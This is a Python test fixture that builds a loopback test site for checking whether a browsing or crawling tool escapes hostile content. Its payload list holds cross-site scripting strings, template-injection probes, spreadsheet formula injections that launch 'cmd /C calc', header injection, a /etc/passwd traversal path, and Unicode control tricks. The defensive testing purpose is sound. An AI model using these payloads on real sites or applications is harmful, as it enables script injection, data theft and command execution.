"""A site whose titles, URLs, anchors and texts attack whatever shows them; it is crawled on loopback."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from urllib.parse import quote

from browsing import CANARY

ELSEWHERE = "http://192.0.2.1"  # a documentation address: any request to it is a leak
CALL = f"{CANARY}(1)"
TEXTS = [  # what a page that does not escape would run, load or be changed by
    f"<script>{CALL}</script>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f'<script src="{ELSEWHERE}/x.js"></script>',
    f"<img src=x onerror={CALL}>",
    f'"><img src=x onerror={CALL}>',
    f'<img src="{ELSEWHERE}/x.png">',
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={CALL}>",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' autofocus x='",
    f"` onclick=`{CALL}`",
    f"<details open ontoggle={CALL}>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f'<iframe src="{ELSEWHERE}/"></iframe>',
    f'<object data="{ELSEWHERE}/x"></object>',
    f'<embed src="{ELSEWHERE}/x">',
    f'<base href="{ELSEWHERE}/">',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">',
    f"<style>@import '{ELSEWHERE}/x.css'; body {{ display: none }}</style>",
    f'<form action="{ELSEWHERE}/"><button autofocus>x</button></form>',
    f"javascript:{CALL}",
    f"JaVaScRiPt\t:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"{{{{ {CALL} }}}} {{{{7*7}}}} {{% include 'x' %}} ${{7*7}} #{{7*7}} <%= 7*7 %>",
    "{{ secret }} {{ self.__init__.__globals__ }} {{ config }}",
    "=cmd|'/C calc'!A0",
    f'=HYPERLINK("{ELSEWHERE}/","x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\u202egnp.exe\u202c \u2067right to left\u2069 \u200f\u061c",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 " * 20,
    "\x1b[31mred\x1b[0m \x07\x08\x7f \x9b31m \u2028\u2029",
    "\ufeff\u200b\u200d\ufff9\ufffb \U000e0041\U000e0042",
    "Z\u0351\u036b\u0343\u036a\u0302" * 200,
    "\r\nSet-Cookie: x=1\r\n\r\n<html>",
    "../../../../etc/passwd",
    "W" * 1_000_000,
    "W " * 200_000,
]
PLACES = ("title", "url", "anchor", "text")


def pages() -> dict[str, str | int]:
    """Return the pages by path: each text as a title, an address, an anchor and the text of a page."""
    found: dict[str, str | int] = {"/robots.txt": f"User-agent: *\nDisallow: /closed{escape(TEXTS[0])}\n"}
    links: list[str] = []
    for number, (place, text) in enumerate(attacks()):
        path = f"/{number}/"
        title, body, anchor = f"Page {number}", "Some words to read. " * 10, "a link"
        if place == "title":
            title = text
        elif place == "url":
            path += quote(text[:300], safe="/:@!$&'()*+,;=~") + f"?q={quote(text[:300], safe='')}"
        elif place == "anchor":
            anchor = text
        else:
            body = text
        links.append(f'<p><a href="{escape(path)}">{escape(anchor)}</a></p>')
        found[path] = page(
            title, body, f'<a href="/">home</a> <a href="/closed{number}{escape(quote(text[:80]))}">x</a>'
        )
    for start in range(0, len(links), 50):
        found[f"/list/{start}"] = page(f"List {start}", "", "".join(links[start : start + 50]))
    foreign = "".join(f'<a href="{escape(text)}">out</a>' for text in TEXTS if len(text) < 500)
    lists = "".join(f'<a href="/list/{start}">list</a>' for start in range(0, len(links), 50))
    found["/"] = page("Home", "", lists + foreign)
    return found


def attacks() -> Iterator[tuple[str, str]]:
    """Yield each text at each place."""
    yield from ((place, text) for place in PLACES for text in TEXTS)


def page(title: str, body: str, links: str) -> str:
    """Return a page whose texts are these: escaped, so that a parser reads them as text."""
    head = f"<!doctype html><html><head><meta charset=utf-8><title>{escape(title)}</title></head>"
    return f"{head}<body><h1>{escape(title)}</h1><p>{escape(body)}</p>{links}</body></html>"
